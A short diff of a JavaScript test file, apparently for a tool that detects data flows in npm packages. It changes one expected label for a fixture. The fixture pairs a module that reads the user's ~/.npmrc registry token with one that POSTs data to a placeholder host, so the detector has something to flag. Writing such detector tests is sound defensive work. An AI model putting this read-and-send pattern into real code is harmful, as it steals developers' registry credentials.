@@ -37,7 +37,7 @@ describe("which files can produce facts", () => {
       "lib/read.js": "exports.read = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');",
       "lib/send.js": "exports.send = (d) => require('https').request({ hostname: 'w.example.invalid', method: 'POST' }).end(d);",
     });
-    expect(flowSummary(facts)).toEqual(["registry-token -> http https://w.example.invalid @lib/send.js:1 (call)"]);
+    expect(flowSummary(facts)).toEqual(["registry-token -> http https://w.example.invalid @lib/send.js:1 (manual)"]);
   });
 
   it("an irrelevant helper required by a relevant file still folds destinations; an irrelevant broken file is still reported", async () => {
